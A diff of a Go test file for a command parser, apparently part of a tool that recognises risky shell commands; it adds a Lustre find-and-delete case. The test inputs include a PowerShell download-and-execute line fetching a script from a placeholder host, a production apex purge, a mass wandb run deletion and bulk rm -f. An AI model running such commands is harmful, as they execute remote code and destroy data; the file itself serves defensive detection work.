@@ -247,6 +247,8 @@ func TestSessionAwareRunners(t *testing.T) {
 		{`$s=(New-Object System.Net.WebClient).DownloadString('https://x.example/a.ps1'); & ([scriptblock]::Create($s))`, "curl -s https://x.example/a.ps1"},
 		{"sf apex run --file purge.apex --target-org acme-prod", "sdk-destroy apex 'acme-prod"},
 		{`python3 -c "import wandb; [r.delete() for r in wandb.Api().runs('team/proj')]"`, "sdk-destroy every"},
+		// Lustre's find, with its long predicates, lists for xargs rm.
+		{"lfs find /lustre --type f --mtime +90 -print0 | xargs -0 rm -f", "rm -f /lustre/*"},
 	}
 	for _, c := range cases {
 		cmds, _ := Parse(c.src, st)
